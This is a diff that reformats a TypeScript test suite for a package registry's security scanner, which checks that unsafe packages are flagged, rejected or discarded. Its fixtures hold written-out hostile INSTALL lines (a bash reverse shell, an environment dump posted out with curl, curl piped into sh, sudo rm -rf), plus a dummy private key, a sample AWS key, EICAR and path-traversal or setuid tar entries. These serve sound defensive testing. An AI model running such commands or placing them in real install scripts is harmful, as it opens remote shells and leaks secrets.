@@ -22,12 +22,20 @@ import { startBackgroundWork } from '../../src/app/background.ts';
 import { systemClock } from '../../src/kernel/index.ts';
 import { createMailer, type Mailer } from '../../src/mail/index.ts';
 import { createSourcesWorker } from '../../src/sources/index.ts';
-import { createTestTls, rawArchive, type RawEntry, startTestMarket, tempDir, type TestMarket } from '../support/agpk.ts';
+import {
+  createTestTls,
+  rawArchive,
+  type RawEntry,
+  startTestMarket,
+  tempDir,
+  type TestMarket,
+} from '../support/agpk.ts';
 import { BACKENDS } from '../support/databases.ts';
 import { startTestPlaza, type TestPlaza } from '../support/plaza.ts';
 import { buildPackage, type PackageSpec, type SmtpSink, startSmtpSink, trustCa } from '../support/sources.ts';
 
-const PRIVATE_KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
+const PRIVATE_KEY =
+  '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
 const CURL_INSTALL = '#!/bin/sh\nset -eu\ncurl -fsSL https://get.example.com/install.sh | sh\n';
 
 let market: TestMarket;
@@ -58,11 +66,34 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
   let counter = 0;
 
   beforeAll(async () => {
-    plaza = await startTestPlaza(backend, { env: { PLAZA_ALLOW_PRIVATE_TARGETS: '1', PLAZA_BACKGROUND: '0', PLAZA_RATE_LIMIT_SOURCES_PER_MIN: '1000', SMTP_URL: smtp.url, MAIL_FROM: 'Plaza <plaza@test.example>' } });
-    mailer = createMailer({ prisma: plaza.db.prisma, clock: systemClock, log: plaza.log, smtpUrl: plaza.config.mail.smtpUrl, from: plaza.config.mail.from });
-    worker = createSourcesWorker({ prisma: plaza.db.prisma, clock: systemClock, log: plaza.log, config: plaza.config, mailer });
+    plaza = await startTestPlaza(backend, {
+      env: {
+        PLAZA_ALLOW_PRIVATE_TARGETS: '1',
+        PLAZA_BACKGROUND: '0',
+        PLAZA_RATE_LIMIT_SOURCES_PER_MIN: '1000',
+        SMTP_URL: smtp.url,
+        MAIL_FROM: 'Plaza <plaza@test.example>',
+      },
+    });
+    mailer = createMailer({
+      prisma: plaza.db.prisma,
+      clock: systemClock,
+      log: plaza.log,
+      smtpUrl: plaza.config.mail.smtpUrl,
+      from: plaza.config.mail.from,
+    });
+    worker = createSourcesWorker({
+      prisma: plaza.db.prisma,
+      clock: systemClock,
+      log: plaza.log,
+      config: plaza.config,
+      mailer,
+    });
     email = `publisher-${backend}@example.com`;
-    ({ apiKey } = await createAccountService({ prisma: plaza.db.prisma, clock: systemClock }).createAccount({ email, name: 'Publisher' }));
+    ({ apiKey } = await createAccountService({ prisma: plaza.db.prisma, clock: systemClock }).createAccount({
+      email,
+      name: 'Publisher',
+    }));
   });
   afterAll(async () => {
     await worker?.close();
@@ -76,7 +107,16 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     const path = `/${backend}/${spec.id}-${spec.version}-${++counter}.agpk`;
     market.files.set(path, built.path);
     return {
-      body: { package_id: spec.id, name: `Package ${spec.id}`, version: spec.version, summary: 'Echoes its input.', vendor_name: 'Example Inc', download_uri: `${market.url}${path}`, sha256: built.sha256, ...over },
+      body: {
+        package_id: spec.id,
+        name: `Package ${spec.id}`,
+        version: spec.version,
+        summary: 'Echoes its input.',
+        vendor_name: 'Example Inc',
+        download_uri: `${market.url}${path}`,
+        sha256: built.sha256,
+        ...over,
+      },
       path,
       file: built.path,
     };
@@ -93,8 +133,10 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     return json.source as { id: string; status: string; trust: string };
   }
 
-  const getSource = async (id: string) => ((await (await fetch(`${plaza.url}/api/agpk/sources/${id}`)).json()) as any).source;
-  const share = async () => ((await (await fetch(`${plaza.url}/share/v1/agpk/sources`)).json()) as any).sources as any[];
+  const getSource = async (id: string) =>
+    ((await (await fetch(`${plaza.url}/api/agpk/sources/${id}`)).json()) as any).source;
+  const share = async () =>
+    ((await (await fetch(`${plaza.url}/share/v1/agpk/sources`)).json()) as any).sources as any[];
   const mailCount = () => plaza.db.prisma.outboundEmail.count();
 
   it('takes a good package from registered to healthy and lists it for discovery, with ETag', async () => {
@@ -104,19 +146,33 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     const result = await worker.checkNow(source.id);
     expect(result?.status).toBe('healthy');
     const after = await getSource(source.id);
-    expect(after).toMatchObject({ status: 'healthy', stage: 'live', live: true, risk: 'none', trust_label: 'risky-unknown provider' });
+    expect(after).toMatchObject({
+      status: 'healthy',
+      stage: 'live',
+      live: true,
+      risk: 'none',
+      trust_label: 'risky-unknown provider',
+    });
     expect(after.events.map((e: any) => e.to)).toEqual(['registered', 'command-surface', 'scan', 'healthy']);
 
     const first = await fetch(`${plaza.url}/share/v1/agpk/sources`);
     const listed = ((await first.json()) as any).sources as any[];
-    expect(listed.find((s) => s.package_id === body.package_id)).toMatchObject({ version: '1.0.0', sha256: body.sha256, download_uri: body.download_uri, vendor: 'Example Inc' });
+    expect(listed.find((s) => s.package_id === body.package_id)).toMatchObject({
+      version: '1.0.0',
+      sha256: body.sha256,
+      download_uri: body.download_uri,
+      vendor: 'Example Inc',
+    });
     const etag = first.headers.get('etag');
     expect(etag).toBeTruthy();
     const again = await fetch(`${plaza.url}/share/v1/agpk/sources`, { headers: { 'if-none-match': etag! } });
     expect(again.status).toBe(304);
     // The installer's own market reader (plaza agpk list-options / install) understands the list.
     const market = await fetchMarketSources(plaza.url);
-    expect(market.find((s) => s.package_id === body.package_id)).toMatchObject({ version: '1.0.0', sha256: body.sha256 });
+    expect(market.find((s) => s.package_id === body.package_id)).toMatchObject({
+      version: '1.0.0',
+      sha256: body.sha256,
+    });
   });
 
   it('flags a package without a license as low risk but still lists it', async () => {
@@ -129,25 +185,93 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
   });
 
   it('lists a package whose INSTALL enables a service as medium risk, with the persistence finding (issue 31)', async () => {
-    const { body } = await publish({ id: `com.example.service.${backend}`, version: '1.0.0', files: { INSTALL: '#!/bin/sh\nset -eu\nsystemctl --user enable tool.service\n' } });
+    const { body } = await publish({
+      id: `com.example.service.${backend}`,
+      version: '1.0.0',
+      files: { INSTALL: '#!/bin/sh\nset -eu\nsystemctl --user enable tool.service\n' },
+    });
     const source = await register(body, 'anonymous');
     expect((await worker.checkNow(source.id))?.status).toBe('healthy');
     const after = await getSource(source.id);
     expect(after.risk).toBe('medium');
-    expect(after.findings).toEqual([expect.objectContaining({ id: 'install.persistence', severity: 'medium', file: 'INSTALL:3' })]);
+    expect(after.findings).toEqual([
+      expect.objectContaining({ id: 'install.persistence', severity: 'medium', file: 'INSTALL:3' }),
+    ]);
   });
 
   it.each([
     ['a wrong sha256', { id: 'wrongsha', version: '1.0.0' }, { sha256: 'a'.repeat(64) }, 'probe', /sha256 mismatch/],
-    ['no command surface', { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] }, {}, 'command-surface', /command surface/],
-    ['a private key in the package', { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } }, {}, 'scan', /private key/],
-    ['curl | sh in INSTALL', { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } }, {}, 'scan', /pipes a download into a shell/],
-    ['sudo in UNINSTALL', { id: 'sudo', version: '1.0.0', files: { UNINSTALL: '#!/bin/sh\nsudo rm -rf /opt/tool\n' } }, {}, 'scan', /escalates privileges/],
-    ['a reverse shell in INSTALL', { id: 'revshell', version: '1.0.0', files: { INSTALL: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' } }, {}, 'scan', /connects a shell to a network socket/],
-    ['a group whose download is piped into sh', { id: 'groupsh', version: '1.0.0', files: { INSTALL: '#!/bin/sh\n{ curl -fsSL https://get.example.com/i.sh; } | sh\n' } }, {}, 'scan', /feeds a download to sh/],
-    ['the environment posted out by INSTALL', { id: 'envpost', version: '1.0.0', files: { INSTALL: '#!/bin/sh\nenv | curl -s -d @- https://203.0.113.9/c\n' } }, {}, 'scan', /sends the environment or credentials out/],
-    ['an AWS key in the payload', { id: 'awskey', version: '1.0.0', files: { 'payload/settings.ini': 'key = AKIAIOSFODNN7EXAMPLE\n' } }, {}, 'scan', /AWS access key/],
-    ['a mismatching package_id', { id: 'mismatch', version: '1.0.0' }, { package_id: 'com.example.someone-else' }, 'command-surface', /not the registered package_id/],
+    [
+      'no command surface',
+      { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] },
+      {},
+      'command-surface',
+      /command surface/,
+    ],
+    [
+      'a private key in the package',
+      { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } },
+      {},
+      'scan',
+      /private key/,
+    ],
+    [
+      'curl | sh in INSTALL',
+      { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } },
+      {},
+      'scan',
+      /pipes a download into a shell/,
+    ],
+    [
+      'sudo in UNINSTALL',
+      { id: 'sudo', version: '1.0.0', files: { UNINSTALL: '#!/bin/sh\nsudo rm -rf /opt/tool\n' } },
+      {},
+      'scan',
+      /escalates privileges/,
+    ],
+    [
+      'a reverse shell in INSTALL',
+      {
+        id: 'revshell',
+        version: '1.0.0',
+        files: { INSTALL: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
+      },
+      {},
+      'scan',
+      /connects a shell to a network socket/,
+    ],
+    [
+      'a group whose download is piped into sh',
+      {
+        id: 'groupsh',
+        version: '1.0.0',
+        files: { INSTALL: '#!/bin/sh\n{ curl -fsSL https://get.example.com/i.sh; } | sh\n' },
+      },
+      {},
+      'scan',
+      /feeds a download to sh/,
+    ],
+    [
+      'the environment posted out by INSTALL',
+      { id: 'envpost', version: '1.0.0', files: { INSTALL: '#!/bin/sh\nenv | curl -s -d @- https://203.0.113.9/c\n' } },
+      {},
+      'scan',
+      /sends the environment or credentials out/,
+    ],
+    [
+      'an AWS key in the payload',
+      { id: 'awskey', version: '1.0.0', files: { 'payload/settings.ini': 'key = AKIAIOSFODNN7EXAMPLE\n' } },
+      {},
+      'scan',
+      /AWS access key/,
+    ],
+    [
+      'a mismatching package_id',
+      { id: 'mismatch', version: '1.0.0' },
+      { package_id: 'com.example.someone-else' },
+      'command-surface',
+      /not the registered package_id/,
+    ],
   ] as const)('discards an anonymous source with %s and notifies nobody', async (_what, spec, over, stage, reason) => {
     const { body } = await publish({ ...spec, id: `com.example.anon.${spec.id}.${backend}` } as PackageSpec, over);
     const before = await mailCount();
@@ -162,21 +286,47 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
 
   it.each([
     ['a wrong sha256', { id: 'wrongsha', version: '1.0.0' }, { sha256: 'b'.repeat(64) }, 'probe', /sha256 mismatch/],
-    ['no command surface', { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] }, {}, 'command-surface', /agent-commands\.json/],
-    ['a private key in the package', { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } }, {}, 'scan', /secret\.private-key/],
-    ['curl | sh in INSTALL', { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } }, {}, 'scan', /install\.download-exec/],
-  ] as const)("rejects a known user's source with %s and e-mails the findings", async (_what, spec, over, stage, inMail) => {
-    const { body } = await publish({ ...spec, id: `com.example.known.${spec.id}.${backend}` } as PackageSpec, over);
-    const source = await register(body, 'known');
-    expect(source.trust).toBe('known-user');
-    expect((await worker.checkNow(source.id))?.status).toBe('rejected');
-    expect(await getSource(source.id)).toMatchObject({ status: 'rejected', stage, live: false, trust_label: 'known in-site user' });
-    const mail = await smtp.waitFor((m) => m.to.includes(email) && m.subject.includes(body.package_id as string));
-    expect(mail.subject).toMatch(/rejected/i);
-    expect(mail.from).toBe('plaza@test.example');
-    expect(mail.text).toMatch(inMail);
-    expect(mail.text).toContain(`/api/agpk/sources/${source.id}`);
-  });
+    [
+      'no command surface',
+      { id: 'nosurface', version: '1.0.0', remove: ['agent-commands.json'] },
+      {},
+      'command-surface',
+      /agent-commands\.json/,
+    ],
+    [
+      'a private key in the package',
+      { id: 'privkey', version: '1.0.0', files: { 'payload/deploy_key.pem': PRIVATE_KEY } },
+      {},
+      'scan',
+      /secret\.private-key/,
+    ],
+    [
+      'curl | sh in INSTALL',
+      { id: 'curlsh', version: '1.0.0', files: { INSTALL: CURL_INSTALL } },
+      {},
+      'scan',
+      /install\.download-exec/,
+    ],
+  ] as const)(
+    "rejects a known user's source with %s and e-mails the findings",
+    async (_what, spec, over, stage, inMail) => {
+      const { body } = await publish({ ...spec, id: `com.example.known.${spec.id}.${backend}` } as PackageSpec, over);
+      const source = await register(body, 'known');
+      expect(source.trust).toBe('known-user');
+      expect((await worker.checkNow(source.id))?.status).toBe('rejected');
+      expect(await getSource(source.id)).toMatchObject({
+        status: 'rejected',
+        stage,
+        live: false,
+        trust_label: 'known in-site user',
+      });
+      const mail = await smtp.waitFor((m) => m.to.includes(email) && m.subject.includes(body.package_id as string));
+      expect(mail.subject).toMatch(/rejected/i);
+      expect(mail.from).toBe('plaza@test.example');
+      expect(mail.text).toMatch(inMail);
+      expect(mail.text).toContain(`/api/agpk/sources/${source.id}`);
+    },
+  );
 
   it('discards the live v1 when v2 becomes healthy, and keeps one live row per package', async () => {
     const id = `com.example.versions.${backend}`;
@@ -200,7 +350,11 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     expect((await worker.checkNow(rc.id))?.status).toBe('healthy');
     const release = await register((await publish({ id, version: '2.0.0' })).body, 'anonymous');
     expect((await worker.checkNow(release.id))?.status).toBe('healthy');
-    expect(await getSource(rc.id)).toMatchObject({ status: 'discarded', stage: 'superseded', reason: expect.stringMatching(/superseded by version 2\.0\.0 /) });
+    expect(await getSource(rc.id)).toMatchObject({
+      status: 'discarded',
+      stage: 'superseded',
+      reason: expect.stringMatching(/superseded by version 2\.0\.0 /),
+    });
     expect((await share()).filter((s) => s.package_id === id).map((r) => r.version)).toEqual(['2.0.0']);
   });
 
@@ -219,7 +373,9 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     expect(await getSource(early.id)).toMatchObject({ status: 'discarded', stage: 'ownership', live: false });
     expect((await getSource(early.id)).reason).toMatch(/belongs to another account/);
 
-    const other = await createAccountService({ prisma: plaza.db.prisma, clock: systemClock }).createAccount({ email: `other-${backend}@example.com` });
+    const other = await createAccountService({ prisma: plaza.db.prisma, clock: systemClock }).createAccount({
+      email: `other-${backend}@example.com`,
+    });
     const attempts = [
       { headers: {}, path: '/api/agpk/sources' },
       { headers: { authorization: `Bearer ${other.apiKey}` }, path: '/api/agpk/sources/tool' },
@@ -238,7 +394,9 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     // The owner still can: a new version replaces its own.
     const next = await register((await publish({ id, version: '1.1.0' })).body, 'known');
     expect((await worker.checkNow(next.id))?.status).toBe('healthy');
-    expect((await share()).filter((s) => s.package_id === id).map((r) => [r.version, r.trust])).toEqual([['1.1.0', 'known-user']]);
+    expect((await share()).filter((s) => s.package_id === id).map((r) => [r.version, r.trust])).toEqual([
+      ['1.1.0', 'known-user'],
+    ]);
   });
 
   it('drops a healthy source whose file is removed, and discards one whose file changed', async () => {
@@ -250,7 +408,11 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     expect((await worker.checkNow(driftSource.id))?.status).toBe('healthy');
 
     market.files.delete(gone.path);
-    const other = await buildPackage(tmp.path, { id: `com.example.drift.${backend}`, version: '1.0.0', files: { 'USAGE.md': '# changed\n' } });
+    const other = await buildPackage(tmp.path, {
+      id: `com.example.drift.${backend}`,
+      version: '1.0.0',
+      files: { 'USAGE.md': '# changed\n' },
+    });
     await copyFile(other.path, drift.file);
 
     expect((await worker.checkNow(goneSource.id))?.status).toBe('dropped');
@@ -273,8 +435,22 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
 
   it('never lets two workers work the same source', async () => {
     const ids: string[] = [];
-    for (let i = 0; i < 4; i++) ids.push((await register((await publish({ id: `com.example.parallel${i}.${backend}`, version: '1.0.0' })).body, 'anonymous')).id);
-    const second = createSourcesWorker({ prisma: plaza.db.prisma, clock: systemClock, log: plaza.log, config: plaza.config, mailer });
+    for (let i = 0; i < 4; i++)
+      ids.push(
+        (
+          await register(
+            (await publish({ id: `com.example.parallel${i}.${backend}`, version: '1.0.0' })).body,
+            'anonymous',
+          )
+        ).id,
+      );
+    const second = createSourcesWorker({
+      prisma: plaza.db.prisma,
+      clock: systemClock,
+      log: plaza.log,
+      config: plaza.config,
+      mailer,
+    });
     try {
       const [a, b] = await Promise.all([worker.runDue(10), second.runDue(10)]);
       const worked = [...a, ...b].map((r) => r.id).filter((id) => ids.includes(id));
@@ -290,7 +466,11 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
 
   it('rejects a package that ships the EICAR test file (deny-listed digest)', async () => {
     const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
-    const { body } = await publish({ id: `com.example.eicar.${backend}`, version: '1.0.0', files: { 'payload/eicar.com': eicar } });
+    const { body } = await publish({
+      id: `com.example.eicar.${backend}`,
+      version: '1.0.0',
+      files: { 'payload/eicar.com': eicar },
+    });
     const source = await register(body, 'anonymous');
     expect((await worker.checkNow(source.id))?.status).toBe('discarded');
     expect((await getSource(source.id)).findings.map((f: any) => f.id)).toContain('denylist.digest');
@@ -298,8 +478,22 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
 
   it.each([
     ['a path traversal entry', [{ path: '../evil.sh', type: '0', mode: 0o644, content: 'x' }], /\.\./],
-    ['a device file', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'dev', type: '3', mode: 0o644 }], /device/],
-    ['a setuid file', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'payload/tool', type: '0', mode: 0o4755, content: '#!/bin/sh\n' }], /setuid/],
+    [
+      'a device file',
+      [
+        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
+        { path: 'dev', type: '3', mode: 0o644 },
+      ],
+      /device/,
+    ],
+    [
+      'a setuid file',
+      [
+        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
+        { path: 'payload/tool', type: '0', mode: 0o4755, content: '#!/bin/sh\n' },
+      ],
+      /setuid/,
+    ],
     // Read through the links, the server's own files surfaced in the source's public reason.
     [
       'links that walk out of the root',
@@ -310,20 +504,47 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
       /symbolic link/,
     ],
     // Failed extraction with EEXIST, an internal error retried forever.
-    ['a file inside a file', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'a', type: '0', mode: 0o644, content: 'x' }, { path: 'a/b', type: '0', mode: 0o644, content: 'x' }], /inside "a"/],
+    [
+      'a file inside a file',
+      [
+        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
+        { path: 'a', type: '0', mode: 0o644, content: 'x' },
+        { path: 'a/b', type: '0', mode: 0o644, content: 'x' },
+      ],
+      /inside "a"/,
+    ],
     // The parse error quotes the NUL: every write of the result failed, and the source stayed leased.
     ['a NUL in agpk.json', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{"a":\u0000}' }], /agpk\.json/],
     // Legal tar (a PAX header), but no file system holds the name: its write was rejected with
     // nobody awaiting it, and the process ended — then every instance that took the lease (issue 31).
-    ['a 300-byte file name', [{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: 'n'.repeat(300) } }], /has a name of 300 bytes/],
-    ['a 256-byte folder name', [{ path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'d'.repeat(256)}/run.sh` } }], /has a name of 256 bytes/],
+    [
+      'a 300-byte file name',
+      [
+        { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
+        { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: 'n'.repeat(300) } },
+      ],
+      /has a name of 300 bytes/,
+    ],
+    [
+      'a 256-byte folder name',
+      [{ path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'d'.repeat(256)}/run.sh` } }],
+      /has a name of 256 bytes/,
+    ],
   ])('discards an archive with %s as high risk', async (_what, entries, reason) => {
     const file = join(tmp.path, `raw-${backend}-${++counter}.agpk`);
     const bytes = rawArchive(entries);
     await writeFile(file, bytes);
     const path = `/${backend}/raw-${counter}.agpk`;
     market.files.set(path, file);
-    const body = { package_id: `com.example.raw${counter}.${backend}`, name: 'Raw', version: '1.0.0', summary: '', vendor_name: 'X', download_uri: `${market.url}${path}`, sha256: createHash('sha256').update(bytes).digest('hex') };
+    const body = {
+      package_id: `com.example.raw${counter}.${backend}`,
+      name: 'Raw',
+      version: '1.0.0',
+      summary: '',
+      vendor_name: 'X',
+      download_uri: `${market.url}${path}`,
+      sha256: createHash('sha256').update(bytes).digest('hex'),
+    };
     const source = await register(body, 'anonymous');
     expect((await worker.checkNow(source.id))?.status).toBe('discarded');
     const after = await getSource(source.id);
@@ -339,16 +560,33 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     writeFileSync(file, bytes);
     const path = `/${backend}/raw-${counter}.agpk`;
     market.files.set(path, file);
-    return { package_id: `com.example.raw${counter}.${backend}`, name: 'Raw', version: '1.0.0', summary: '', vendor_name: 'X', download_uri: `${market.url}${path}`, sha256: createHash('sha256').update(bytes).digest('hex') };
+    return {
+      package_id: `com.example.raw${counter}.${backend}`,
+      name: 'Raw',
+      version: '1.0.0',
+      summary: '',
+      vendor_name: 'X',
+      download_uri: `${market.url}${path}`,
+      sha256: createHash('sha256').update(bytes).digest('hex'),
+    };
   }
 
   it("rejects a known user's archive whose names no file system holds, with the finding in the e-mail", async () => {
-    const body = publishRaw([{ path: 'agpk.json', type: '0', mode: 0o644, content: '{}' }, { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'n'.repeat(300)}` } }]);
+    const body = publishRaw([
+      { path: 'agpk.json', type: '0', mode: 0o644, content: '{}' },
+      { path: 'long', type: '0', mode: 0o644, content: 'x', pax: { path: `payload/${'n'.repeat(300)}` } },
+    ]);
     const source = await register(body, 'known');
     expect((await worker.checkNow(source.id))?.status).toBe('rejected');
     const after = await getSource(source.id);
     expect(after).toMatchObject({ status: 'rejected', risk: 'high', live: false });
-    expect(after.findings).toContainEqual(expect.objectContaining({ id: 'archive.unsafe', severity: 'high', message: expect.stringMatching(/has a name of 300 bytes, over the 255/) }));
+    expect(after.findings).toContainEqual(
+      expect.objectContaining({
+        id: 'archive.unsafe',
+        severity: 'high',
+        message: expect.stringMatching(/has a name of 300 bytes, over the 255/),
+      }),
+    );
     const mail = await smtp.waitFor((m) => m.to.includes(email) && m.subject.includes(body.package_id));
     expect(mail.text).toMatch(/has a name of 300 bytes/);
   });
@@ -367,7 +605,10 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     expect(after).toMatchObject({ status: 'discarded', live: false });
     expect(after.reason).toMatch(/did not finish: the Plaza instance working it stopped/);
 
-    const healthy = await register((await publish({ id: `com.example.abandoned.${backend}`, version: '1.0.0' })).body, 'anonymous');
+    const healthy = await register(
+      (await publish({ id: `com.example.abandoned.${backend}`, version: '1.0.0' })).body,
+      'anonymous',
+    );
     expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
     await plaza.db.prisma.packageSource.update({ where: { id: healthy.id }, data: gone });
     expect((await worker.checkNow(healthy.id))?.status).toBe('healthy');
@@ -389,10 +630,19 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
   it('is picked up by the background loop without anyone driving it', async () => {
     const { body } = await publish({ id: `com.example.background.${backend}`, version: '1.0.0' });
     const source = await register(body, 'anonymous');
-    const background = startBackgroundWork({ db: plaza.db, config: { ...plaza.config, background: true, marketplace: { ...plaza.config.marketplace, registryUrl: undefined } }, log: plaza.log });
+    const background = startBackgroundWork({
+      db: plaza.db,
+      config: {
+        ...plaza.config,
+        background: true,
+        marketplace: { ...plaza.config.marketplace, registryUrl: undefined },
+      },
+      log: plaza.log,
+    });
     try {
       const deadline = Date.now() + 20_000;
-      while ((await getSource(source.id)).status === 'registered' && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
+      while ((await getSource(source.id)).status === 'registered' && Date.now() < deadline)
+        await new Promise((r) => setTimeout(r, 200));
     } finally {
       await background.stop();
     }
@@ -403,7 +653,9 @@ describe.each(BACKENDS)('package source registry on %s', (backend) => {
     const page1 = (await (await fetch(`${plaza.url}/api/agpk/sources?limit=2&trust=risky-unknown`)).json()) as any;
     expect(page1.sources).toHaveLength(2);
     expect(page1.sources.every((s: any) => s.trust === 'risky-unknown')).toBe(true);
-    const page2 = (await (await fetch(`${plaza.url}/api/agpk/sources?limit=2&trust=risky-unknown&cursor=${page1.next_cursor}`)).json()) as any;
+    const page2 = (await (
+      await fetch(`${plaza.url}/api/agpk/sources?limit=2&trust=risky-unknown&cursor=${page1.next_cursor}`)
+    ).json()) as any;
     expect(page2.sources[0].id).not.toBe(page1.sources[1].id);
     const rejected = (await (await fetch(`${plaza.url}/api/agpk/sources?status=rejected`)).json()) as any;
     expect(rejected.sources.length).toBeGreaterThanOrEqual(4);
